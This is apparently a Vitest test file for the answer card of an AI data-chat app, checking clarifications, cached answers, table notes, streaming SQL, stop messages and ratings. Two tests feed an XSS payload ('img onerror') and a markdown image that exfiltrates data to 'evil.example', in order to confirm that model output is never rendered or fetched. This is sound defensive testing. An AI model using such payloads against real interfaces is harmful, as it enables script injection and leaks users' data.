import { cleanup, render, screen } from '@testing-library/preact';
import userEvent from '@testing-library/user-event';
import { afterEach, expect, test, vi } from 'vitest';
import type { ChatAnswer } from '../api/types';
import { applyEvent, newTurn, stopTurn, type Turn } from '../core/turn';
import { AnswerCard } from './AnswerCard';

afterEach(cleanup);

function show(turn: Turn) {
  const actions = {
    onAsk: vi.fn(),
    onRetry: vi.fn(),
    onAskAnew: vi.fn(),
    onEdit: vi.fn(),
    onSave: vi.fn(async () => true),
    onRate: vi.fn(async () => true),
    onExport: vi.fn(async () => {}),
  };
  render(<AnswerCard turn={turn} theme="light" actions={actions} />);
  return actions;
}

function chat(more: Partial<ChatAnswer>): Turn {
  const answer: ChatAnswer = {
    response_type: 'chat',
    message: 'There are **two** ways to read it.',
    session_id: 's',
    query_id: 'q',
    timing_ms: { total: 5 },
    ...more,
  };
  return applyEvent(newTurn(1, 'best?', 0), { event: 'done', data: answer }, 10);
}

test('a question back offers its options', async () => {
  const { onAsk } = show(chat({ clarification: { options: ['By revenue', 'By orders'] } }));
  expect(screen.getByText('two').tagName).toBe('STRONG');
  await userEvent.click(screen.getByRole('button', { name: 'By orders' }));
  expect(onAsk).toHaveBeenCalledWith('By orders');
});

test('an answer from memory says so, and can be asked anew', async () => {
  const { onAskAnew } = show(chat({ cached: true }));
  expect(screen.getByText('The question was asked before: no model was called.')).toBeTruthy();
  await userEvent.click(screen.getByRole('button', { name: 'Ask anew' }));
  expect(onAskAnew).toHaveBeenCalledOnce();
});

test('an answer made now offers nothing of the kind', () => {
  show(chat({ cached: false }));
  expect(screen.queryByRole('button', { name: 'Ask anew' })).toBeNull();
});

test('what cannot be answered says why and what can', async () => {
  const reason = 'No table is about weather.';
  const { onAsk } = show(chat({ unanswerable: { reason }, suggestions: ['Top products'] }));
  expect(screen.getByText(reason)).toBeTruthy();
  await userEvent.click(screen.getByRole('button', { name: 'Top products' }));
  expect(onAsk).toHaveBeenCalledWith('Top products');
});

test('tables chosen among very many are named', () => {
  show(chat({ tables_considered: ['orders', 'customers'], tables_left_out: 398 }));
  expect(screen.getByText('Chosen from 400 tables: 2')).toBeTruthy();
  expect(screen.getByText('orders, customers')).toBeTruthy();
  cleanup();
  show(chat({ tables_considered: ['orders', 'customers'], tables_left_out: 0 }));
  expect(screen.queryByText(/Chosen from/)).toBeNull();
  cleanup();
  show(
    chat({
      tables_considered: ['orders', 'customers'],
      tables_left_out: 0,
      columns_left_out: 1200,
    }),
  );
  expect(screen.getByText('Left out: 1,200 columns.')).toBeTruthy();
});

test('text from the model never becomes markup', () => {
  show(chat({ message: '<img src=x onerror=alert(1)> **<b>bold</b>**' }));
  expect(document.querySelector('img')).toBeNull();
  expect(screen.getByText('<b>bold</b>')).toBeTruthy();
});

test('a picture or a link of the model is shown as its text and fetches nothing', () => {
  const message =
    'Done ![x](https://evil.example/?q=secret) [y](https://evil.example) <https://evil.example>';
  show(chat({ message }));
  expect(document.querySelector('img, a, script, iframe, object')).toBeNull();
  expect(document.body.textContent).toContain('![x](https://evil.example/?q=secret)');
});

test('a statement is shown while it is written, as text that nobody has checked', () => {
  const text = "SELECT '<img src=x onerror=alert(1)>'";
  const turn = applyEvent(
    newTurn(1, 'x', Date.now()),
    { event: 'sql_delta', data: { part: 'sql', offset: 0, text } },
    Date.now(),
  );
  show(turn);
  expect(screen.getByRole('group', { name: 'SQL' }).textContent).toBe(text);
  expect(screen.getByText('Being written, not checked yet')).toBeTruthy();
  expect(document.querySelector('img')).toBeNull();
  expect(screen.queryByRole('button', { name: 'Copy' })).toBeNull();
});

test('a running turn shows its stage, a stopped one says so', () => {
  const begun = applyEvent(
    newTurn(1, 'x', Date.now()),
    { event: 'stage', data: { stage: 'running', status: 'running' } },
    Date.now(),
  );
  show(begun);
  expect(screen.getByText('Running on the database')).toBeTruthy();
  cleanup();
  show(stopTurn(begun, Date.now() + 1500));
  expect(screen.getByText(/^Stopped after 1.5 s/)).toBeTruthy();
});

test('what was stopped is said', () => {
  const at = (...stages: ['writing_sql' | 'running' | 'insights', 'running' | 'done'][]) => {
    cleanup();
    const turn = stages.reduce<Turn>(
      (value, [stage, status]) =>
        applyEvent(value, { event: 'stage', data: { stage, status } }, Date.now()),
      newTurn(1, 'x', Date.now()),
    );
    show(stopTurn(turn, Date.now()));
    return screen.getByText(/^Stopped[ .].*\.$/).textContent;
  };
  expect(at()).toBe('Stopped before a query ran on the database.');
  expect(at(['writing_sql', 'running'])).toBe('Stopped before a query ran on the database.');
  expect(at(['running', 'running'])).toBe('Stopped. The database was told to end the query.');
  expect(at(['running', 'done'], ['insights', 'running'])).toBe(
    'Stopped. The query itself had ended.',
  );
});

test('a rating is kept once the server has it, and a bad one may say why', async () => {
  const { onRate } = show(chat({}));
  await userEvent.click(screen.getByRole('button', { name: 'Bad answer' }));
  expect(onRate).toHaveBeenCalledWith('down');
  expect(screen.getByRole('button', { name: 'Bad answer' }).getAttribute('aria-pressed')).toBe(
    'true',
  );
  await userEvent.type(screen.getByLabelText(/What was wrong/), ' Wrong year {Enter}');
  expect(onRate).toHaveBeenLastCalledWith('down', 'Wrong year');
  expect(screen.queryByLabelText(/What was wrong/)).toBeNull();
});

test('a good rating asks for no reason', async () => {
  show(chat({}));
  await userEvent.click(screen.getByRole('button', { name: 'Good answer' }));
  expect(screen.getByText('Thank you')).toBeTruthy();
  expect(screen.queryByLabelText(/What was wrong/)).toBeNull();
});
